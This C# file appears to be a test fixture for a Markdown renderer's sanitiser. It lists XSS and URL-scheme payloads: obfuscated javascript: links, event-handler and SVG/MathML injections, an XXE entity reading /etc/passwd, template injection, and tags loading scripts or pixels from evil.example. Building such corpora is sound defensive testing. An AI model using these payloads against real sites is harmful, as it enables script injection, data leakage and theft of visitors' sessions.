namespace PortfolioWorkspace.App.Tests.Markdown;

/// <summary>What an attacker would type: our own corpus of addresses, ways to carry an address, and raw markup.</summary>
internal static class HostileTexts
{
    public static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript://portfolio.example/%0aalert(1)", "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&#115;cript:alert(1)",
        "javascript&#58;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java\tscript:alert(1)",
        "java%0ascript:alert(1)", "\u0001javascript:alert(1)", "java\u0000script:alert(1)", "java\u200Bscript:alert(1)",
        "\u00A0javascript:alert(1)", "\u2028javascript:alert(1)", "&#1;javascript:alert(1)", "&#14; javascript:alert(1)",
        "jav\\ascript:alert(1)", "javascript\\:alert(1)", "vbscript:msgbox(1)", "VBScript:msgbox(1)", "livescript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:image/svg+xml,<svg/onload=alert(1)>", "data&#58;text/html,x", "file:///etc/passwd", "blob:https://portfolio.example/1",
        "filesystem:https://portfolio.example/1", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:https://a!/b",
        "ws://evil.example", "ftp://evil.example/x", "intent://evil#Intent;end", "ms-word:ofe|u|https://evil.example/a.docx", "about:blank",
        "//evil.example/x", "/\\evil.example", "\\\\evil.example", "/&#92;evil.example", "https:evil.example", "http:\\\\evil.example",
        "https:", "http://", ":javascript:alert(1)", "#javascript:alert(1)", "?javascript:alert(1)", "javascript", "x:alert(1)",
    ];

    public static readonly string[] WaysToLink =
    [
        "[klik]({0})", "[klik](<{0}>)", "[klik]({0} \"titel\")", "![beeld]({0})", "![beeld](<{0}> 'x')", "<{0}>", "[klik][r]\n\n[r]: {0}\n",
        "[r]\n\n[r]: <{0}> 'titel'\n", "![beeld][r]\n\n[r]: {0}\n", "[![beeld]({0})]({0})", "**[kl_ik_]({0})**", "[a]({0}){{onclick=alert(1)}}",
    ];

    public static readonly string[] Markup =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src='x' onerror=&#97;lert(1)>", "<img/src/onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=\"javascript:alert(1)\">x</math>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=data:text/html,x></object>", "<embed src=//evil.example/x.swf>", "<form action=//evil.example><input name=attributes></form>",
        "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>", "<body onload=alert(1)>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=position:fixed;inset:0>x</p>", "<a href=javascript:alert(1)>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<video src=x onerror=alert(1)></video>",
        "<audio src onloadstart=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title><img src=x onerror=alert(1)></title>", "<textarea><img src=x onerror=alert(1)>",
        "<xmp><img src=x onerror=alert(1)></xmp>", "<select><option><img src=x onerror=alert(1)></select>", "<table background=javascript:alert(1)><tr><td>x",
        "<a id=body name=cookie>x</a>", "<img name=getElementById>", "<x onclick=alert(1)>x</x>", "<custom-element onx=1>", "<!-- <script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "</p><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "# Kop {onclick=\"alert(1)\" style=\"position:fixed\"}", "# Kop {#cookie .x onmouseover=alert(1)}", "![a](/media/x.png){onerror=alert(1)}", "*x*{style=position:fixed}",
        "`x`{onclick=alert(1)}", "```js {onclick=alert(1)}\nx\n```", "```\"onclick=\"alert(1)\nx\n```", "~~~<img/src=x/onerror=alert(1)>\nx\n~~~", "::: {onclick=alert(1)}\nx\n:::",
        "[x](https://a.example \"\" onclick=alert(1) \"\")", "[x](https://a.example '\"onclick=alert(1) x=\"')", "[x](https://a.example/\"onclick=alert(1))", "![\"onerror=alert(1) x=\"](/media/0192f0c4-7b4e-7c11-8b7e-3a1c5d2e9f00)",
        "![a](/media/0192f0c4-7b4e-7c11-8b7e-3a1c5d2e9f00/../../x)", "![a](/media/../api)", "![pixel](https://evil.example/p.gif?who=1)", "![a](/media/0192f0c4-7b4e-7c11-8b7e-3a1c5d2e9f00?x=\"onerror=alert(1))",
        "[a](b)[c](javascript:alert(1))[[d](javascript:alert(1))](javascript:alert(1))", "[[[[x](javascript:alert(1))]]]", "[a\\](javascript:alert(1))", "[a](javascript:alert(1)\n\"x\")",
        "[x]: javascript:alert(1) \"\n[x]", "<https://a.example/\"onclick=\"alert(1)>", "<https://a.example/><script>alert(1)</script>", "<mailto:a@b.nl?x=\"onclick=alert(1)>", "$$<img src=x onerror=alert(1)>$$",
        "[^1]\n\n[^1]: <script>alert(1)</script>", "{% raw %}<script>{% endraw %}", "{{constructor.constructor('alert(1)')()}}", "@(await Alert())", "<a/href=\"javascript:\u0000alert(1)\">x</a>", "\u0000<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    ];

    /// <summary>Places in a document where an attack may be hidden; the reader takes another road through each.</summary>
    public static readonly string[] Carriers = ["{0}", "- {0}\n  - {0}\n", "> {0}\n", "| kop | {0} |\n|---|---|\n| {0} | x |\n", "## {0}\n", "- [x] {0}\n", "1. *a **{0}** b*\n"];

    public static IEnumerable<string> All =>
        Markup.Concat(Addresses.SelectMany(_ => WaysToLink, (address, way) => way.Replace("{0}", address, StringComparison.Ordinal).Replace("{{", "{", StringComparison.Ordinal).Replace("}}", "}", StringComparison.Ordinal)));
}
